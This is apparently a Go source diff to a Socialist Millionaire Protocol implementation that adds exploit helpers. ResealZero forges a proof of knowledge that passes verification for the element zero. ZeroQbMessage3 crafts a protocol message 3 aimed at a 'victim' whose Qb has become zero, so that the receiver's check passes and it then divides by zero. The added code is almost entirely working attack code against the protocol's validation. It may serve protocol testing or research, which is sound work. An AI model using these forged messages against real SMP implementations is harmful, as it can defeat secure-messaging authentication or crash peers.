@@ -272,3 +272,18 @@ func ResealLog(ver byte, rnd func() *big.Int) (c, d *big.Int) {
 	}
 	return c, new(big.Int)
 }
+
+// SharedG3 computes g3 = g3b^a3 from the initiator's side without needing the rest of message 2 to be well formed.
+func (s *SMP) SharedG3(g3b *big.Int) *big.Int { return expP(g3b, s.a3) }
+
+// ResealZero gives a "proof of knowledge" that verifies for the element 0 (or any multiple of p):
+// g^D * 0^c = 0 for c > 0, so c = H(ver, 0) with any D passes the check.
+func ResealZero(ver byte) (c, d *big.Int) { return hashInt(ver, new(big.Int)), big.NewInt(7) }
+
+// ZeroQbMessage3 builds an SMP message 3 for a victim whose own Qb became 0 (because g2 = 0): Pa = Qa = 1 and
+// cP = H(6, g3^D5, 0) verifies, after which the receiver has to divide by its Qb.
+func ZeroQbMessage3(g3, d5, d6 *big.Int) []*big.Int {
+	cp := hashInt(6, expP(g3, d5), new(big.Int))
+	one := big.NewInt(1)
+	return []*big.Int{one, one, cp, d5, d6, big.NewInt(2), big.NewInt(3), big.NewInt(4)}
+}
